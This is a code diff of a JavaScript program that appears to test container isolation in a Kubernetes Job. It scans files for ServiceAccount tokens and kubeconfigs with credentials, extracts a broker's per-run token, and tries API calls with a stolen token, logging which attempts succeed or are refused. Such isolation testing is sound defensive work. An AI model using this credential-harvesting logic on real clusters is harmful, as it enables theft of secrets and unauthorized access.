@@ -110,6 +110,14 @@ function* filesUnder(root, budget, depth = 0) {
   }
 }
 
+/** This program and the wrapper that runs it: they spell out what they look for. */
+const ownFiles = new Set([__filename, "/captf/runtime"]);
+
+/** A kubeconfig (JSON or YAML) that carries a credential: a token, a client key or an exec plugin. */
+function looksLikeKubeconfigWithCredentials(text) {
+  return /kind"?\s*:\s*"?Config\b/.test(text) && /clusters/.test(text) && /client-key-data|"token"\s*:|^\s*token:\s*\S|"?exec"?\s*:/m.test(text);
+}
+
 /** Pids this process can see in /proc. */
 function visiblePids() {
   try {
@@ -119,15 +127,20 @@ function visiblePids() {
   }
 }
 
-/** The broker's server and per-run token from the kubeconfig it wrote for this Job, if readable. */
+/**
+ * The broker's server and per-run credential from the kubeconfig it wrote for this Job, or why not:
+ * the token is the server URL's first path segment (a bearer token, if the kubeconfig has one, too).
+ */
 function brokerEndpoint() {
   try {
     const config = JSON.parse(fs.readFileSync(brokerKubeconfigPath, "utf8"));
     const server = config.clusters?.[0]?.cluster?.server;
-    const token = config.users?.[0]?.user?.token;
-    return server && token ? { server, token } : undefined;
-  } catch {
-    return undefined;
+    const bearer = config.users?.[0]?.user?.token;
+    const inPath = server ? new URL(server).pathname.replace(/^\/+|\/+$/g, "") : "";
+    if (!server || !(bearer || inPath)) return { problem: `${brokerKubeconfigPath} names no server with a token` };
+    return { server, token: bearer, found: true, where: `port ${new URL(server).port}${inPath ? ", the token in the URL's path" : ""}${bearer ? ", a bearer token" : ""}` };
+  } catch (error) {
+    return { problem: `${brokerKubeconfigPath}: ${error.code ?? error.message}` };
   }
 }
 
@@ -151,7 +164,7 @@ function send(server, method, requestPath, { token, body } = {}) {
   return new Promise((resolve) => {
     let url;
     try {
-      url = new URL(requestPath, server);
+      url = new URL(server);
     } catch (error) {
       resolve({ error: error.message });
       return;
@@ -161,8 +174,9 @@ function send(server, method, requestPath, { token, body } = {}) {
     const headers = { accept: "application/json" };
     if (token) headers.authorization = `Bearer ${token}`;
     if (payload) Object.assign(headers, { "content-type": "application/json", "content-length": payload.length });
-    // The raw path, so dot segments and encodings reach the server as written.
-    const options = { method, host: url.hostname, port: url.port, path: requestPath, headers, timeout: requestTimeoutMs, rejectUnauthorized: false };
+    // The raw path after the server's own (the broker's carries its token), so dot segments and encodings reach it as written.
+    const prefix = new URL(server).pathname.replace(/\/+$/, "");
+    const options = { method, host: url.hostname, port: url.port, path: `${prefix}${requestPath}`, headers, timeout: requestTimeoutMs, rejectUnauthorized: false };
     const req = client.request(options, (res) => {
       const chunks = [];
       res.on("data", (chunk) => chunks.push(chunk));
@@ -227,14 +241,14 @@ function credentialAttempts() {
       if (text === undefined) continue;
       scanned++;
       for (const token of serviceAccountTokensIn(text)) found.push({ where: file, ...token });
-      if (file !== brokerKubeconfigPath && /client-key-data|"token"\s*:|^\s*token:\s*\S/m.test(text) && /clusters/.test(text)) {
+      if (file !== brokerKubeconfigPath && !ownFiles.has(file) && looksLikeKubeconfigWithCredentials(text)) {
         found.push({ where: file, sub: "a kubeconfig with credentials" });
       }
     }
   }
   add(`scan ${scanRoots.join(", ")} for ServiceAccount tokens and kubeconfigs`, "filesystem", "service-account-token", found.length ? "succeeded" : "refused", found.length ? summarize(found) : `${scanned} readable files, none holds one`);
   const broker = brokerEndpoint();
-  add("find the broker's per-run token", "filesystem", "broker-token", broker ? "succeeded" : "refused", broker ? `${brokerKubeconfigPath} (expected: valid only at this Job's broker, ${broker.server})` : `${brokerKubeconfigPath} not readable`);
+  add("find the broker's per-run token", "filesystem", "broker-token", broker.found ? "succeeded" : "refused", broker.found ? `${brokerKubeconfigPath} (expected: valid only at this Job's broker, ${broker.where})` : broker.problem);
 
   // Other processes' environment, command lines and roots.
   const pids = visiblePids().filter((pid) => Number(pid) !== process.pid);
@@ -345,7 +359,7 @@ async function apiAttempts(targets, phase, stolenToken) {
   const broker = brokerEndpoint();
   const channels = [
     { via: "direct", server: direct, token: stolenToken, missing: "no KUBERNETES_SERVICE_HOST in this process's or PID 1's environment" },
-    { via: "broker", server: broker?.server, token: broker?.token, missing: `no broker kubeconfig at ${brokerKubeconfigPath}` },
+    { via: "broker", server: broker.server, token: broker.token, missing: `no broker to use: ${broker.problem}` },
   ];
   for (const channel of channels) {
     for (const entry of table) {
@@ -358,10 +372,13 @@ async function apiAttempts(targets, phase, stolenToken) {
     }
   }
   // The control: this object's own state through the broker must answer (200, or 404 before the first apply).
-  if (broker && targets.self?.stateSuffix) {
+  const control = { attempt: "get own state Secret (control)", via: "broker", target: "own-state", control: true };
+  if (!broker.found || !targets.self?.stateSuffix) {
+    attempts.push({ ...control, outcome: "error", detail: broker.problem ?? "this object's state suffix is not on the runner's command line" });
+  } else {
     const answer = await send(broker.server, "GET", `/api/v1/namespaces/${targets.namespace}/secrets/tfstate-default-${targets.self.stateSuffix}`, { token: broker.token });
     const reached = answer.status === 200 || answer.status === 404;
-    attempts.push({ attempt: "get own state Secret (control)", via: "broker", target: "own-state", control: true, outcome: reached ? "succeeded" : answer.error ? "error" : "refused", detail: answer.error ?? String(answer.status) });
+    attempts.push({ ...control, outcome: reached ? "succeeded" : answer.error ? "error" : "refused", detail: answer.error ?? String(answer.status) });
   }
   return attempts;
 }
@@ -441,7 +458,8 @@ function writeReportState(file, report) {
 
 async function postReport(url, report) {
   if (!url) return;
-  await send(url, "POST", new URL(url).pathname + new URL(url).search, { body: report });
+  const target = new URL(url);
+  await send(target.origin, "POST", target.pathname + target.search, { body: report });
 }
 
 async function attack(phase) {
